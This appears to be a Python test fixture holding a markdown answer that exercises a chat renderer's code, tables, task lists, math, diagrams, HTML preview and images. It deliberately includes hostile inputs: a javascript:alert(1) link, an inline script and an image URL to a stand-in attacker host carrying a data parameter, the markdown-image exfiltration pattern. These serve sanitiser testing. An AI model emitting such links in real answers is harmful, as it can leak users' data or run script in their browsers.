"""An answer with each element that the page draws: code, table, tasks, formulas, diagrams, preview, images."""

from __future__ import annotations

PIXEL = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
RICH = f"""# Heading

Some **bold** text, `code`, a [link](https://example.org/a) and a [bad one](javascript:alert(1)).

```python
def add(a, b):
    return a + b
```

| name | value |
| ---- | ----- |
| one  | 1     |

- [x] done
- [ ] open

Euler: $e^{{i\\pi}} + 1 = 0$ and for $5 or $6.

$$
\\int_0^1 x\\,dx = \\frac{{1}}{{2}}
$$

```mermaid
graph TD
  A[Start] --> B[End]
```

```mermaid
graph nonsense ((
```

```html
<p id="told">Hello from the preview</p><script>document.getElementById("told").textContent += "!"</script>
```

![a pixel]({PIXEL})

![secret](https://evil.example/leak.png?data=1)
"""
